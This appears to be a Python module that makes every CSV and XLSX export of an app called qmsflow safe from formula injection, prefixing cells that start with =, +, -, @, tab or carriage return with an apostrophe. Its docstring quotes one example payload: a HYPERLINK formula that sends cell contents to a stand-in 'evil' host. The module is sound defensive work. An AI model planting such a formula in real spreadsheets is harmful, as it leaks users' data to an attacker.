"""Every CSV and XLSX the app writes goes through here, so no cell can run as a formula.

A title such as ``=HYPERLINK("http://evil/?"&A1, "Click")`` is harmless in qmsflow but live in
a spreadsheet program: OWASP's advice on CSV injection is to prefix a value that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return with ``'``, so that it is shown as text.
:func:`safe_cell` does that; :func:`csv_text` and :func:`xlsx_bytes` apply it to every cell,
header included, and every export (registers, master list, background exports) uses them.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

__all__ = ["FORMULA_STARTS", "csv_text", "safe_cell", "xlsx_bytes"]

#: the first characters that make a spreadsheet program read a cell as a formula (OWASP)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet shows it as text: a string starting a formula gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> str:
    """A CSV document of ``header`` and ``rows``, every cell made safe."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([safe_cell(value) for value in header])
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
    return out.getvalue()


def xlsx_bytes(sheet: str, header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> bytes:
    """A one-sheet XLSX workbook of ``header`` and ``rows``, every cell made safe (and stripped of
    the control characters XML cannot hold, which would otherwise make the export fail)."""
    from openpyxl import Workbook
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    def cell(value: Any) -> Any:
        return safe_cell(ILLEGAL_CHARACTERS_RE.sub(" ", value) if isinstance(value, str) else value)

    book = Workbook(write_only=True)
    worksheet = book.create_sheet(sheet[:31])
    worksheet.append([cell(value) for value in header])
    for row in rows:
        worksheet.append([cell(value) for value in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
